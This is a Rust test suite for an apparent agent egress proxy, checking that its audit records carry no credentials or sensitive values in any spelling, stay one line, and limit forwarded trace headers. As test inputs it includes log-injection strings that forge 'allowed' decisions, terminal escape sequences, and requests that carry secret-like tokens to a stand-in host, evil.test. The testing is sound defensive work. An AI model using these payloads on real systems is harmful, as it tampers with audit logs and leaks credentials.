//! What a record shows: nothing that ends its line, no credential, no sensitive value.

use std::fmt::Write as _;
use std::io::Write as _;

use exeat::audit::Hash;
use exeat::redact::Redaction;
use serde_json::{Value, json};

use crate::attacks::stage::{Door, POLICY, Stage};
use crate::redaction;
use crate::world::{Plan, Reply, Revision, Then, World, json_reply};

/// One sensitive place of each kind.
const SENSITIVE: &str = r#"
version: 1
actions:
  sign_up:
    description: Makes accounts.
    method: POST
    url: https://api.good.test/v1/accounts
    sensitive: [note, "$.users[*].word", "$.deep.*.word"]
    query: {ticket: "{{ticket}}"}
    parameters:
      properties:
        password: {type: string}
        note: {type: string}
        ticket: {type: string, writeOnly: true}
        plain: {type: string}
        users: {type: array, items: {type: object, additionalProperties: true}}
        deep: {type: object, additionalProperties: true}
  log_in:
    description: Takes a form.
    method: POST
    url: https://api.good.test/v1/login
    content_types: [application/x-www-form-urlencoded]
    sensitive: [note]
    parameters: {properties: {password: {type: string}, note: {type: string}, plain: {type: string}}}
"#;

/// Under an open schema agents make up names as well as values.
#[test]
fn o6_a_secret_as_a_name_that_no_schema_has_is_in_no_record() {
    let open = "  open:\n    description: Takes anything.\n    method: GET\n    \
                url: https://api.good.test/open\n    \
                parameters: {properties: {plain: {type: string}}, additionalProperties: {type: string}}\n";
    let mut world = Plan::of(&(POLICY.to_owned() + open)).start();
    world.origin("api.good.test", |_| json_reply("{}"));
    let client = world.client();
    let shaped = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
    assert_eq!(client.get("http://api.good.test/v1/items/1").status, 200);
    let known = client.get("http://api.good.test/open?plain=1&SECRET-AAAA=1");
    assert_eq!(known.refusal(), "secret_outgoing");
    client.get(&format!("http://api.good.test/open?plain=1&{shaped}=1"));
    let records = world.last_records();
    assert_eq!(records.len(), 3);
    for record in &records[1..] {
        let shown = record.to_string();
        assert!(
            !shown.contains("SECRET-AAAA") && !shown.contains(shaped),
            "{record}"
        );
        let names = record["parameters"].as_array().unwrap();
        assert!(
            names.contains(&json!("plain")) && names.len() == 2,
            "{record}"
        );
    }
}

#[test]
fn o1_a_record_is_one_line_whatever_a_client_sends() {
    let mut world = World::usual();
    let client = world.client();
    for line in [
        "GET http://api.good.test/v1/%22%7D%0A%7B%22decision%22:%22allowed%22 HTTP/1.1",
        "GET http://api.good.test/admin?%0A%7B%22=1&%E2%80%A8=2&\"}{\"=3 HTTP/1.1",
        "}{'\"$%HACK http://api.good.test/ HTTP/1.1",
        "!#$%&'*+-.^`|~ http://api.good.test/v1/items/1 HTTP/1.1",
    ] {
        let request = format!("{line}\r\nHost: api.good.test\r\nX-\"Y: \"}}\r\n\r\n");
        let _ = client.try_raw(request.as_bytes());
    }
    let records = world.last_records();
    assert_eq!(records.len(), 4);
    assert!(
        records.iter().all(|it| it["decision"] == "refused"),
        "{records:#?}"
    );
}

#[test]
fn o6_what_an_agent_sends_as_a_credential_is_in_no_record() {
    let mut world = Plan::of(POLICY).start();
    world.origin("api.good.test", |_| Reply::and("HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"SECRET-AAAA\"\r\nContent-Length: 0\r\n\r\n", Then::Stay));
    let client = world.client();
    let lines = [
        "Authorization: Bearer TOPSECRET",
        "Cookie: a=TOPSECRET",
        "X-Api-Key: TOPSECRET",
    ];
    client.send("GET", "http://api.good.test/v1/items/1", &lines, "");
    client.send(
        "GET",
        "http://api.good.test/v1/items/1?token=TOPSECRET",
        &lines,
        "",
    );
    client.send(
        "GET",
        "http://evil.test/TOPSECRET?token=TOPSECRET",
        &lines,
        "",
    );
    client.send("GET", "http://api.two.test/me?key=TOPSECRET", &lines, "");
    client.send(
        "POST",
        "http://api.good.test/v1/items",
        &["Content-Type: application/json"],
        r#"{"name":"TOPSECRET"}"#,
    );
    let written = world.everything_written();
    assert!(!written.contains("TOPSECRET"), "{written}");
    assert_eq!(world.last_records().len(), 5);
}

#[test]
fn o5_a_body_that_nobody_can_read_is_recorded_by_its_hash_alone() {
    let world = redaction::world(redaction::plan().showing_values(Redaction::default()));
    let url = "http://api.good.test/v1/pay/ada?note=rent";
    let body = r#"{"pin":"9876","pin":"1234"#;
    let headers = ["Content-Type: application/json"];
    let answer = world.client().send("POST", url, &headers, body);
    assert_eq!(answer.status, 400, "{answer:?}");
    let record = world.record();
    assert_eq!(record["body"], "unparsed");
    let digest = record["body_sha256"].as_str().unwrap();
    assert_eq!(digest, exeat::audit::Hash::of(body.as_bytes()).as_str());
    assert_eq!(record["bytes_in"], body.len());
    assert!(!record.to_string().contains("9876"));
}

/// Values of parameters, names of parameters and of headers, sessions: whatever a client may choose.
#[test]
fn o1_nothing_that_a_client_chooses_ends_a_line_or_drives_a_terminal() {
    let odd = [
        "\r\n{\"decision\":\"allowed\"}",
        "\u{2028}{\"decision\":\"allowed\"}\u{2029}",
        "\u{1b}]0;owned\u{7}\u{1b}[2J",
        "\u{9b}31m\u{85}",
        "a\0b",
        "\u{202e}\u{2066}\u{200b}\u{feff}",
        "\"}\n{\"seq\":1,\"hash\":\"x\"}",
        "\u{fff9}\u{e0041}\u{7f}",
        "\\u000a\\\"",
    ];
    let policy = POLICY.replace("name: {type: string, maxLength: 100}", "name: {}");
    let plan = Plan::of(&policy).showing_values(Redaction::default());
    let (world, mut pipes) = (plan.start(), Vec::new());
    world.origin("api.good.test", |_| json_reply("{}"));
    let client = world.client();
    for text in odd {
        let quoted = json!({"name": text, "qty": 1}).to_string();
        let json = "Content-Type: application/json";
        let items = "http://api.good.test/v1/items";
        client.send("POST", items, &[json], &quoted);
        client.send("POST", items, &[json], &json!({text: text}).to_string());
        let encoded: String = text.bytes().fold(String::new(), |mut out, byte| {
            write!(out, "%{byte:02x}").unwrap();
            out
        });
        client.get(&format!(
            "http://api.good.test/v2/{encoded}?{encoded}={encoded}"
        ));
        client.get(&format!("http://api.good.test/v1/items/{encoded}"));
        world.call(
            "create_item",
            "",
            &json!({"parameters": {"name": text, text: 1}, "session": text}),
        );
        world.call(text, "", &json!({}));
        let mut pipe = world.pipe(Revision::ALL[1], None, None);
        pipe.send(
            "tools/call",
            json!({"name": "create_item", "arguments": {"name": text, text: text}}),
        );
        pipe.read();
        pipes.push(pipe);
        let _ = client.try_raw(format!("GET http://api.good.test/v1/items/1 HTTP/1.1\r\nHost: api.good.test\r\nUser-Agent: {text}\r\n\r\n").as_bytes());
    }
    drop(pipes);
    let records = world.records(odd.len() * 7);
    let written = world.everything_written();
    let is_odd = |it: char| {
        it.is_control() && it != '\n'
            || matches!(
                it,
                '\u{2028}'
                    | '\u{2029}'
                    | '\u{202e}'
                    | '\u{200b}'
                    | '\u{feff}'
                    | '\u{2066}'
                    | '\u{fff9}'
            )
    };
    assert!(!written.contains(is_odd), "{written:?}");
    // Each line is one object with one decision, and none is a client's.
    for record in records {
        assert!(["allowed", "refused"].contains(&record["decision"].as_str().unwrap()));
        assert!(record["hash"].as_str().unwrap().len() == 64);
    }
}

#[test]
fn o3_a_sensitive_value_is_in_no_record_in_any_spelling() {
    const WORD: &str = "hunter 2/+%";
    let percent = "hunter%202%2F%2B%25";
    let world = Plan::of(SENSITIVE)
        .showing_values(Redaction::default())
        .start();
    world.origin("api.good.test", |_| {
        Vec::from("HTTP/1.1 302 Found\r\nLocation: /next?password=hunter%202%2F%2B%25\r\nContent-Length: 0\r\n\r\n")
    });
    let (client, url) = (world.client(), "http://api.good.test/v1/accounts");
    let users = json!([{"word": WORD, "name": "ada"}, {"word": WORD}, {"password": WORD, "api-key": WORD}, {"PassWord": WORD, "API_KEY": WORD}]);
    let whole = json!({"password": WORD, "note": WORD, "users": users, "deep": {"a": {"word": WORD}, "b": {"word": [WORD]}}, "plain": "shown"});
    let json = "Content-Type: application/json";
    client.send(
        "POST",
        &format!("{url}?ticket={percent}"),
        &[json],
        &whole.to_string(),
    );
    client.send(
        "POST",
        url,
        &[json],
        &whole.to_string().replace("hunter", "h\\u0075nter"),
    );
    let form = "Content-Type: application/x-www-form-urlencoded";
    let login = "http://api.good.test/v1/login";
    client.send(
        "POST",
        login,
        &[form],
        &format!("password={percent}&note={percent}&plain=shown"),
    );
    client.send(
        "POST",
        login,
        &[form],
        "password=hunter+2%2F%2B%25&plain=shown",
    );
    // Refused ones, with the value in a place where there is none, or of the wrong type.
    client.send("POST", &format!("{url}?password={percent}"), &[json], "{}");
    client.send(
        "POST",
        url,
        &[json],
        &json!({"note": [WORD], "password": {"a": WORD}}).to_string(),
    );
    let mut parameters = whole;
    parameters["ticket"] = WORD.into();
    world.call("sign_up", "", &json!({"parameters": parameters}));
    world
        .pipe(Revision::ALL[1], None, None)
        .call("sign_up", parameters);
    let records = world.records(8);
    for record in &records {
        let line = record.to_string();
        assert!(
            !line.contains("hunter") && !line.contains("h\\u0075"),
            "{line}"
        );
    }
    assert_eq!(
        records[0]["values"]["users"][0],
        json!({"word": "[redacted]", "name": "ada"})
    );
    assert_eq!(
        records[0]["values"]["users"][2],
        json!({"password": "[redacted]", "api-key": "[redacted]"})
    );
    assert_eq!(
        records[2]["values"],
        json!({"password": "[redacted]", "note": "[redacted]", "plain": "shown"})
    );
}

#[test]
fn o5_no_byte_of_what_cannot_be_parsed_is_written_down() {
    let stage = Stage::of(Plan::of(POLICY).showing_values(Redaction::default()));
    for body in [
        "{\"name\":\"TOPSECRET\"",
        "{\"name\":\"TOPSECRET\",\"name\":\"TOPSECRET\"}",
        "TOPSECRET",
        "[\"TOPSECRET\"]",
        "{\"name\":\"TOPSECRET\u{1}\"}",
        "{'name':'TOPSECRET'}",
        "{\"name\":\"TOPSECRET\"}{}",
        "\u{feff}{\"name\":\"TOPSECRET\"}",
    ] {
        for door in Door::ALL {
            let before = stage.world.records(0).len();
            let mut stream = stage.open(door);
            stream.write_all(&door.post(body)).unwrap();
            let answer = stage.answer(&mut stream, "POST").unwrap();
            assert!((400..500).contains(&answer.status), "{body}: {answer:?}");
            assert!(!answer.text().contains("TOPSECRET"), "{body}: {answer:?}");
            let record = stage.world.records(before + 1).pop().unwrap();
            assert_eq!(record["body"], "unparsed", "{body}: {record}");
            assert_eq!(
                record["body_sha256"],
                Hash::of(body.as_bytes()).as_str(),
                "{body}"
            );
            assert_eq!(record["bytes_in"], body.len(), "{body}");
            assert!(
                !record.to_string().contains("TOPSECRET"),
                "{body}: {record}"
            );
        }
    }
}

/// Where values are shown, and an action declares them as its own parameters.
#[test]
fn o6_names_that_carry_credentials_are_redacted_without_being_told() {
    let names = [
        "X-Amz-Security-Token",
        "X-Amz-Signature",
        "X-Amz-Credential",
        "sig",
        "access_token",
        "code",
        "token",
        "Password",
        "client_secret",
        "refresh_token",
        "id_token",
        "api_key",
        "APIKEY",
        "sessionid",
        "jwt_assertion",
        "Signature",
        "private_key",
        "X-Goog-Api-Key",
    ];
    let shown = ["jwt_assertion"];
    let properties: String = names
        .iter()
        .map(|it| format!("        {it}: {{type: string}}\n"))
        .collect();
    let policy = format!(
        "version: 1\nactions:\n  fetch:\n    description: Fetches by a signed address.\n    method: GET\n    url: https://api.good.test/fetch\n    parameters:\n      properties:\n{properties}"
    );
    let world = Plan::of(&policy)
        .showing_values(Redaction::default())
        .start();
    world.origin("api.good.test", |_| json_reply("{}"));
    for name in names {
        let url = format!("http://api.good.test/fetch?{name}=TOPSECRET-1");
        let answer = world.client().get(&url);
        assert_eq!(answer.status, 200, "{name}: {answer:?}");
        world.call("fetch", "", &json!({"parameters": {name: "TOPSECRET-1"}}));
    }
    for record in world.records(2 * names.len()) {
        let values = record["values"].as_object().unwrap();
        let (name, value) = values.iter().next().unwrap();
        let expected = if shown.contains(&&**name) {
            "TOPSECRET-1"
        } else {
            "[redacted]"
        };
        assert_eq!(value, expected, "{record}");
    }
    for header in [
        "Authorization",
        "Proxy-Authorization",
        "Cookie",
        "X-Api-Key",
        "X-Amz-Security-Token",
        "X-Auth-Token",
        "Api-Key",
        "X-Csrf-Token",
        "Signature",
        "X-Anything",
    ] {
        let line = format!("{header}: TOPSECRET-1");
        for url in [
            "http://api.good.test/fetch",
            "http://api.good.test/none",
            "http://evil.test/",
        ] {
            world.client().send("GET", url, &[&line], "");
        }
    }
    let written = world.records(2 * names.len() + 30)[2 * names.len()..]
        .iter()
        .map(Value::to_string)
        .collect::<String>();
    assert!(!written.contains("TOPSECRET"), "{written}");
}

#[test]
fn o13_what_a_caller_says_of_its_trace_is_bounded_and_its_baggage_stays_here() {
    let stage = Stage::usual();
    let parent = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01";
    let long = format!("{parent}-{}", "x".repeat(5000));
    let many = format!(
        "baggage: {}",
        (0..200)
            .map(|it| format!("k{it}=ATTACKER,"))
            .collect::<String>()
    );
    for door in Door::ALL {
        for (lines, goes_on) in [
            (vec![format!("traceparent: {parent}")], true),
            (
                vec![
                    format!("traceparent: {parent}"),
                    "baggage: user=ATTACKER".into(),
                ],
                true,
            ),
            (
                vec![
                    format!("traceparent: {parent}"),
                    "tracestate: a=ATTACKER".into(),
                    many.clone(),
                ],
                true,
            ),
            (
                vec![
                    "baggage: user=ATTACKER".into(),
                    "X-B3-TraceId: ATTACKER".into(),
                    "uber-trace-id: ATTACKER".into(),
                    "b3: ATTACKER".into(),
                ],
                false,
            ),
            (vec![format!("traceparent: {long}")], false),
            (vec!["traceparent: ATTACKER".into()], false),
            (
                vec![
                    format!("traceparent: {parent}"),
                    format!("traceparent: {parent}"),
                ],
                false,
            ),
            (
                vec!["traceparent: 00-0AF7651916CD43DD8448EB211C80319C-b7ad6b7169203331-01".into()],
                false,
            ),
            (
                vec!["traceparent: 00-00000000000000000000000000000000-b7ad6b7169203331-01".into()],
                false,
            ),
            (
                vec!["traceparent: ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01".into()],
                false,
            ),
        ] {
            let lines: String = lines.iter().map(|it| format!("{it}\r\n")).collect();
            let (seen, record) = stage.serves(
                door,
                &door.request("GET", "api.good.test", "/v1/items/1", &lines, ""),
            );
            assert!(!seen.head.contains("ATTACKER"), "{}", seen.head);
            assert!(!record.to_string().contains("ATTACKER"), "{record}");
            for name in ["baggage", "tracestate", "b3", "uber-trace-id"] {
                assert_eq!(seen.header(name), [""; 0], "{lines}");
            }
            let sent = seen.header("traceparent").concat();
            assert!(sent.is_empty() || sent.len() == parent.len(), "{sent}");
            assert_eq!(
                sent.contains("0af7651916cd43dd8448eb211c80319c"),
                goes_on,
                "{lines}: {sent}"
            );
            assert!(!sent.contains("b7ad6b7169203331"), "{sent}");
        }
    }
    let mut pipe = stage.world.pipe(Revision::ALL[1], None, None);
    let meta =
        json!({"traceparent": parent, "baggage": "user=ATTACKER", "tracestate": "a=ATTACKER"});
    pipe.request(
        "tools/call",
        json!({"name": "get_item", "arguments": {"id": "1"}, "_meta": meta}),
    );
    assert!(!stage.good.seen().pop().unwrap().head.contains("ATTACKER"));
}
